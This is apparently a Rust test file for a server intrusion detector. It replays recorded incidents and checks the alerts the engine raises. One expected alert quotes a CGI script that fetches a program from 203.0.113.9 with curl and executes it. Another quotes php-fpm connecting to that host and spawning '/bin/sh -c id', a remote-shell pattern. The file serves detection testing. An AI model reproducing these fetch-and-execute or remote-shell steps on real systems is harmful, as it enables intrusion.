//! Incidents of real servers. What stands in `recorded/` was recorded by picket, in a network of its own
//! where 203.0.113.9 and 10.9.9.9 were next door; paths are others, and what started the servers is left out.

use event::{Record, Severity, StageKind};

use super::world::{engine, told};

/// What the engine makes of a recording, with the number of the event that it makes it of.
fn replay(recording: &str) -> Vec<(usize, Record)> {
    let mut engine = engine();
    let events = recording.lines().map(|line| serde_json::from_str::<Record>(line).unwrap());
    let mut all = Vec::new();
    for (number, event) in events.enumerate() {
        let Record::Event(event) = event else { panic!("{number}: no event") };
        all.extend(engine.on(&event).into_iter().map(|record| (number, record)));
    }
    all
}

/// Python's server runs a CGI script that fetches a program and executes it.
#[test]
fn a_script_fetches_a_program() {
    let records = replay(include_str!("recorded/cgi.jsonl"));
    let records: Vec<Record> = records.into_iter().map(|(_, record)| record).collect();
    let told = told(&records);
    let stages: Vec<usize> =
        told.iter().map(|update| update.incident.as_ref().unwrap().stages.len()).collect();
    assert_eq!(stages, [5, 6, 7]);
    assert_eq!(
        told[2].reasons,
        [
            "python-http-server started, listens on 127.0.0.1:8000, spawned dash (/bin/sh \
             /srv/site/cgi-bin/run.sh), which spawned curl (curl -s -o fetched \
             http://203.0.113.9:9000/program), which connected to 203.0.113.9:9000, ended its \
             connection to 203.0.113.9:9000: 87 bytes sent, 35 kB received, dash executed fetched \
             (./fetched), which was written after the server had started",
            "critical: an unexpected child, a file written after the server started and a \
             connection to a new peer together",
        ]
    );
}

/// PHP's process manager behind nginx, which is a proxy, too; a page asks a neighbour, as pages do;
/// then one connects to somebody and gives him a shell.
#[test]
fn a_page_gives_somebody_a_shell() {
    let recording = include_str!("recorded/fpm.jsonl");
    let shell = recording.lines().position(|line| line.contains("\"/bin/sh -c id\"")).unwrap();
    let records = replay(recording);
    let (before, after): (Vec<_>, Vec<_>) =
        records.into_iter().partition(|(number, _)| *number < shell);
    let plain = |records: Vec<(usize, Record)>| -> Vec<Record> {
        records.into_iter().map(|(_, record)| record).collect()
    };
    let (before, after) = (plain(before), plain(after));
    assert!(shell > 30 && told(&before).is_empty());
    let told = told(&after);
    let first = told[0].incident.as_ref().unwrap();
    let kinds: Vec<StageKind> = first.stages.iter().map(|stage| stage.kind).collect();
    use StageKind::{Child, Listens, Outbound, ServerStarted};
    assert_eq!(kinds, [ServerStarted, Listens, Outbound, Child]);
    assert_eq!(
        told[0].reasons[0],
        "php-fpm started, listens on 127.0.0.1:9001, connected to 203.0.113.9:9000, spawned dash (sh \
         -c /bin/sh -c id)"
    );
    assert_eq!(told[0].severity, Severity::Critical);
    // The proxy has no part in it.
    let started = before.iter().filter_map(|record| match record {
        Record::Detection(detection) => detection.incident.as_ref(),
        _ => None,
    });
    let belongs: Vec<bool> = started.map(|incident| *incident == first.id).collect();
    assert_eq!(belongs, [true, false]);
}
